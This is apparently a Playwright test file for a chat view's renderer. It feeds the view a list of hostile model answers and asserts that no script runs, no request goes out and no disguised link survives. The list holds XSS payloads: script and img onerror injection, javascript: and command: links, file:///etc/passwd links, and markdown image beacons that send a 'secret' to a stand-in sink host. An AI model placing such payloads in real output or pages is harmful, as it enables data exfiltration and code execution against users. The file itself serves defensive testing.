import assert from "node:assert/strict";
import type { Browser } from "playwright-core";
import { CHAT_STATES, answer, attempt, turn } from "../../fixtures/chatStates.ts";
import { launch, openView, settle, showState, streamText } from "./page.ts";

const SINK = "https://sink.example/leak";

/** What a model, or somebody who writes through it, may try. */
const HOSTILE = [
  `<script>fetch("${SINK}")</script>`,
  `<img src="${SINK}" onerror="window.__ran = true">`,
  `![pixel](${SINK}?q=secret) and ![ref][img]\n\n[img]: ${SINK}`,
  `![data](data:image/svg+xml;base64,PHN2Zy8+)`,
  `<style>body { background: url(${SINK}) }</style><link rel="stylesheet" href="${SINK}">`,
  `<p style="background:url(${SINK})" onclick="window.__ran = true">x</p>`,
  `[a](javascript:window.__ran=true) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) <javascript:alert(1)>`,
  `[d](command:workbench.action.terminal.new) [e](vscode://file/etc/passwd) [f](file:///etc/passwd) [g](data:text/html,x)`,
  `<iframe src="${SINK}"></iframe><object data="${SINK}"></object><form action="${SINK}"><button>Send</button></form>`,
  `<svg><use href="${SINK}#x"></use><animate onbegin="window.__ran=true"></animate></svg><math><mtext></mtext></math>`,
  '```html\n<img src=x onerror="window.__ran = true"><script>window.__ran = true</script>\n```',
  '```"><img src=x onerror=window.__ran=true>\ncode\n```',
  "`<b onmouseover=window.__ran=true>`",
  '<button data-code-action="copy" data-link="command:x">Copy</button><a data-link="command:x">x</a>',
  `[title](https://a.example "\\"><img src=x onerror=window.__ran=true>")`,
  "| <img src=x onerror=window.__ran=true> |\n|---|\n| <script>window.__ran=true</script> |",
].join("\n\n");

describe("a hostile answer", function () {
  this.timeout(60_000);
  let browser: Browser;
  before(async () => {
    browser = await launch();
  });
  after(() => browser?.close());

  for (const live of [false, true]) {
    it(`is inert ${live ? "while it streams" : "at once"}: no request, no script, no break of the policy`, async () => {
      const view = await openView(browser, "chat");
      const base = answer(
        [attempt("mini", 0.0004, live ? { state: "streaming" } : {})],
        live ? { state: "working" } : { text: HOSTILE },
      );
      const busy = live ? { busy: "evil" } : {};
      await showState(view, { ...CHAT_STATES["main"], ...busy, turns: [turn(HOSTILE, HOSTILE, base, "evil")] });
      if (live) await streamText(view, "evil", HOSTILE, 7);
      if (live)
        await view.post({
          type: "turn",
          turn: turn(HOSTILE, HOSTILE, { ...base, text: HOSTILE, state: "done" }, "evil"),
        });
      await settle(view.page);
      const found = await view.page.evaluate(() => ({
        ran: "__ran" in window,
        loaders: document.querySelectorAll(
          ".feed :is(img, script, style, link, iframe, object, embed, form, svg:not(.tier), math, video, audio, [style])",
        ).length,
        handlers: [...document.querySelectorAll(".feed *")].filter((each) =>
          each.getAttributeNames().some((name) => name.startsWith("on")),
        ).length,
        links: [...document.querySelectorAll<HTMLAnchorElement>(".feed a")].map((link) => link.protocol),
        forged: [...document.querySelectorAll<HTMLElement>("[data-link]")].filter(
          (each) => !/^(https?|mailto):/.test(each.dataset["link"] ?? ""),
        ).length,
      }));
      assert.deepEqual(
        { ...found, links: [...new Set(found.links)] },
        { ran: false, loaders: 0, handlers: 0, links: ["https:"], forged: 0 },
      );
      assert.deepEqual(view.foreign, []);
      assert.deepEqual(await view.faults(), []);
      await view.page.close();
    });
  }

  it("opens links only through the host, and shows where a disguised one goes", async () => {
    const view = await openView(browser, "chat");
    const text =
      "[docs](https://example.com/a) [google.com](https://evil.example) [x](https://user@evil.example/) <https://xn--pple-43d.com/>";
    const done = answer([attempt("mini", 0.0004)], { text });
    await showState(view, { ...CHAT_STATES["main"], turns: [turn("Links?", "", done, "links")] });
    const shown = await view.page.locator(".prose").innerText();
    assert.equal(
      shown,
      "docs google.com (https://evil.example) x (https://user@evil.example/) https://xn--pple-43d.com/ (https://xn--pple-43d.com/)",
    );
    await view.page.locator(".prose a").first().click();
    assert.deepEqual((await view.posted()).at(-1), { type: "open-link", url: "https://example.com/a" });
    assert.deepEqual(view.foreign, []);
    await view.page.close();
  });
});
